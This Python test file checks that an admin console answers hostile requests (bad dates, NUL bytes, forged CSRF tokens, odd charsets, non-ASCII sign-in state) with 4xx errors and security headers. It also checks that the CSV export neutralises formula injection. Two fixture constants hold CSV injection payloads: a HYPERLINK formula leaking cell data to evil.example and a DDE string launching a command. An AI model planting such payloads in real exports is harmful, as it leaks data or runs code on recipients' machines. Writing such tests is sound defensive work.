"""The admin console against hostile requests from a signed-in browser: each ends in a 4xx with a reason,
never a 500, and every response (redirects and errors too) carries the security headers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import aiohttp
import pytest
from sqlalchemy import select
from sqlalchemy.exc import OperationalError

from adapters.web.console import export
from adapters.web.console.queries import ConsoleQueries, LedgerFilter
from adapters.web.console.routes import DATABASE_AWAY, SECURITY_HEADERS
from bot.domain import usd_string
from bot.storage.names import CHANNEL, USER
from bot.storage.tables import UsageEntry, utcnow
from tests.fakes.slack import FakeSlack
from tests.ops.console_harness import csrf, mounted_console, now_local, running_console, seed_ledger

# Names people can give themselves and their channels, which a spreadsheet would run as formulas.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _client() -> aiohttp.ClientSession:
    return aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True), timeout=aiohttp.ClientTimeout(total=60))


def _guarded(response: aiohttp.ClientResponse) -> bool:
    return all(response.headers.get(name) == value for name, value in SECURITY_HEADERS.items())


async def test_hostile_requests_get_a_4xx_and_the_security_headers(slack: FakeSlack, settings_for,
                                                                   tmp_path: Path) -> None:
    async with running_console(slack, settings_for, tmp_path) as console, _client() as client:
        base = console.base_url + "/admin"
        assert _guarded(await client.get(base + "/ledger", allow_redirects=False))  # the sign-in redirect
        signed_in = await console.sign_in(client)
        assert signed_in.status == 303 and _guarded(signed_in)
        token = await csrf(client, base + "/channels")

        for day in ("9999-12-31", "0001-01-01", "2026-02-30"):
            for page in ("/ledger", "/ledger.csv"):
                response = await client.get(base + page, params={"day": day})
                assert response.status == 400 and _guarded(response), (page, day)
        for name in ("channel", "person", "status"):  # PostgreSQL refuses a NUL: not "the database is away"
            for page in ("/ledger", "/ledger.csv"):
                response = await client.get(base + page, params={name: "slack:C\x001"})
                assert response.status == 400 and "NUL" in await response.text(), (page, name)
        for pk in ("99999999999999999999", "4242"):
            shown = await client.get(f"{base}/conversations/{pk}")
            assert shown.status == 404 and _guarded(shown), pk
            deleted = await client.post(f"{base}/conversations/{pk}/delete", data={"csrf_token": token},
                                        allow_redirects=False)
            assert deleted.status == 404, pk  # not "Conversation deleted"
        wrong = await client.post(base + "/channels", data={"csrf_token": "\xff" + token[1:], "scope": "global",
                                                            "value": "1/day"})
        assert wrong.status == 403 and _guarded(wrong)
        charset = await client.post(base + "/channels", data=f"csrf_token={token}&scope=global&value=1/day",
                                    headers={"Content-Type": "application/x-www-form-urlencoded; charset=x-nope"})
        assert charset.status == 400
        multipart = aiohttp.FormData({"csrf_token": token, "scope": "global", "value": "1/day"})
        multipart.add_field("file", b"x", filename="x.txt")
        assert (await client.post(base + "/channels", data=multipart)).status in (200, 400)

        for scope, value in (("slack:U1@foo", "1/day"), ("slack:", "1/day"), ("global", "9" * 100_000)):
            refused = await client.post(base + "/channels", data={"csrf_token": token, "scope": scope,
                                                                   "value": value})
            assert refused.status == 200, scope
            assert "slack:U1@foo" not in {scope for scope, _ in await console.core.budget.limits.explicit_limits()}
        assert (await client.get(base + "/channels")).status == 200


async def test_the_ledger_csv_writes_hostile_names_as_text(slack: FakeSlack, settings_for, tmp_path: Path) -> None:
    async with running_console(slack, settings_for, tmp_path) as console, _client() as client:
        core = console.core
        await seed_ledger(core, now_local(core))
        await core.names.remember("slack", USER, "U2", HYPERLINK)
        await core.names.remember("slack", CHANNEL, "C2", DDE)
        await core.names.remember("slack", USER, "U1", "Ada Lovelace")
        await console.sign_in(client)
        response = await client.get(console.base_url + "/admin/ledger.csv")
        assert response.status == 200 and _guarded(response)
        rows = list(csv.DictReader(io.StringIO(await response.text())))

        queries = ConsoleQueries(core.db, core.reports, core.settings.workspace_scoped_platforms)
        expected = {r.id: r for r in await queries.ledger(LedgerFilter(), limit=1_000_000)}
        assert sorted(int(row["id"]) for row in rows) == sorted(expected)
        names = {"slack:U2": "'" + HYPERLINK, "slack:U1": "Ada Lovelace", "discord:777": "", "discord:778": ""}
        channels = {"slack:C1": "general", "slack:C2": "'" + DDE, "discord:4567": "reviews"}
        for row in rows:
            assert row["person_name"] == names[row["person"]]
            assert row["channel_name"] == channels[row["channel"]]
            # The figures are the numbers as we wrote them, not quoted text.
            ledger = expected[int(row["id"])]
            assert (row["prompt_tokens"], row["cached_tokens"], row["cost_usd"]) == (
                str(ledger.prompt_tokens), str(ledger.cached_tokens), usd_string(ledger.cost_nanos))
        assert {row["person"] for row in rows} >= {"slack:U2", "slack:U1"}


async def test_with_the_database_away_a_page_is_a_plain_503_not_a_500(slack: FakeSlack, settings_for, tmp_path: Path,
                                                                       monkeypatch) -> None:  # noqa: ANN001
    async with running_console(slack, settings_for, tmp_path) as console, _client() as client:
        await console.sign_in(client)

        async def away(_work: object) -> None:
            raise OperationalError("SELECT 1", {}, ConnectionRefusedError("connection refused"))

        monkeypatch.setattr(console.core.db, "run", away)  # what every console request's session check calls
        response = await client.get(console.base_url + "/admin/ledger", allow_redirects=False)
        assert response.status == 503 and _guarded(response)
        assert await response.text() == DATABASE_AWAY


async def test_the_ledger_csv_is_sent_page_by_page_every_row_once_in_order(
        slack: FakeSlack, settings_for, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Read whole, a year of ledger held the event loop for seconds; it is read and sent in pages, each after
    the last row of the one before (rows sharing a start time are ordered by id, so none is skipped or
    repeated at a page's edge)."""
    monkeypatch.setattr(export, "CSV_PAGE_ROWS", 3)
    async with running_console(slack, settings_for, tmp_path) as console, _client() as client:
        core = console.core
        await seed_ledger(core, now_local(core))
        async with core.db.session() as session:  # seven calls started in the same microsecond
            channel_pk = (await session.scalars(select(UsageEntry.channel_pk).limit(1))).one()
            same = utcnow()
            session.add_all(UsageEntry(channel_pk=channel_pk, user_id="U7", kind="chat", model="seed-2-0-code",
                                       prompt_tokens=1, cached_tokens=0, completion_tokens=1, cost_nanos=i,
                                       status="ok", started_at=same) for i in range(7))
        await console.sign_in(client)
        response = await client.get(console.base_url + "/admin/ledger.csv")
        assert response.status == 200 and _guarded(response)
        text = await response.text()
        queries = ConsoleQueries(core.db, core.reports, core.settings.workspace_scoped_platforms)
        expected = await queries.ledger(LedgerFilter(), limit=1_000_000)
        assert len(expected) > 3 * 4 and text.count("started_at") == 1  # several pages, one header
        assert [int(row["id"]) for row in csv.DictReader(io.StringIO(text))] == [r.id for r in expected]


async def test_a_sign_in_with_slack_state_outside_ascii_is_refused_not_a_server_error(
        core_for, sqlite_url: str) -> None:
    """The callback is open to anyone without a session: a state the cookie does not hold is the sign-in page's
    403, whatever its characters (compare_digest raised TypeError on a non-ASCII str: a 500)."""
    installs = {"SLACK_CLIENT_ID": "1111.2222", "SLACK_CLIENT_SECRET": "secret", "SLACK_SCOPES": "chat:write"}
    core = await core_for(sqlite_url, SEEDBOT_ADMINS="slack:UADMIN", **installs)
    async with mounted_console(core, "slack:UADMIN") as (_signed_in, base):
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as client:
            started = await client.get(base + "/admin/login/slack", allow_redirects=False)  # the state cookie
            assert started.status == 302
            for state in ("abc", "\u00e9", "\u00e9" * 500):
                answer = await client.get(base + "/admin/login/slack/callback", params={"state": state, "code": "x"})
                assert answer.status == 403 and _guarded(answer), (state[:5], answer.status)
